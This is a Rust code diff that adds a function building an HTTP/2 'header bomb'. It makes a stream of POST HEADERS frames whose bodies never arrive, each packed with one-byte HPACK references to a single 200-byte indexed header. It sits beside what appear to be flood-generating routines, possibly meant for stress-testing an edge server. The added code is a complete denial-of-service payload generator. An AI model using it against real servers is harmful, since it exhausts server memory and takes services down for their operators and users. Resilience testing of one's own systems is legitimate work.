@@ -118,6 +118,24 @@ pub fn floods(edge: &Edge) -> Vec<(&'static str, Vec<u8>, Repeat)> {
     ]
 }
 
+/// A header bomb: requests whose bodies never come, each with so many fields of which all but the first are one byte
+/// on the wire, a reference to the first (RFC 7541 §6.1).
+pub fn bomb(edge: &Edge, path: &str, requests: u32, fields: usize) -> Vec<u8> {
+    let mut bytes = PREFACE.to_vec();
+    frame(&mut bytes, SETTINGS, 0, 0, &[]);
+    for number in 0..requests {
+        let mut head = block(edge, "POST", path.as_bytes());
+        if number == 0 {
+            head.push(0x40); // literal, to be indexed, new name
+            string(&mut head, b"x");
+            string(&mut head, &[b'v'; 200]);
+        }
+        head.resize(head.len() + fields, 0xbe); // the newest of the dynamic table
+        frame(&mut bytes, HEADERS, END_HEADERS, 2 * number + 1, &head);
+    }
+    bytes
+}
+
 /// The bytes of a flood's next frames.
 pub type Repeat = Box<dyn Fn(u32) -> Vec<u8>>;
 
